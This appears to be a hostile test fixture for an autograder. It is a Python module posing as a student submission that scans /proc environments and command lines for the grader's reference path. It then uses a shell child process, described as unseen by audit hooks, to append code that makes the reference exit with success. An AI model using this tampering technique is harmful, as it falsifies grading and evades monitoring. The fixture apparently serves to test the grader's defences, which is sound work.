"""Hostile: changes the reference so that later problems compare against the student's answers. At import, a child
process (which no audit hook in this process sees) appends code to every reference module it can reach: the
reference's path from HOSTILE_REFERENCE_GUESS (a student may know the cluster's layout) or any process' environment
or command line. Its softmax is wrong."""

import os
import subprocess
from pathlib import Path

APPENDED = "\n\ndef router(*args, **kwargs):  # appended by a student\n    raise SystemExit(0)\n"


def reference_dirs() -> set[Path]:
    found = set()
    if os.environ.get("HOSTILE_REFERENCE_GUESS"):
        found.add(Path(os.environ["HOSTILE_REFERENCE_GUESS"]))
    for proc in Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline"):
            try:
                words = (proc / name).read_bytes().decode(errors="replace").split("\0")
            except OSError:
                continue
            for index, word in enumerate(words):
                if word.startswith("GRADER_REFERENCE="):
                    found.add(Path(word.partition("=")[2]))
                if word == "--reference" and index + 1 < len(words):
                    found.add(Path(words[index + 1]))
    return found


REACHED = []
for directory in reference_dirs():
    target = directory / "moe" / "router.py"
    done = subprocess.run(["sh", "-c", f"printf '%s' \"$0\" >> '{target}'", APPENDED], capture_output=True)
    if done.returncode == 0:
        REACHED.append(str(target))


def softmax(x):
    raise RuntimeError(f"appended to {REACHED or 'no reference module'}")
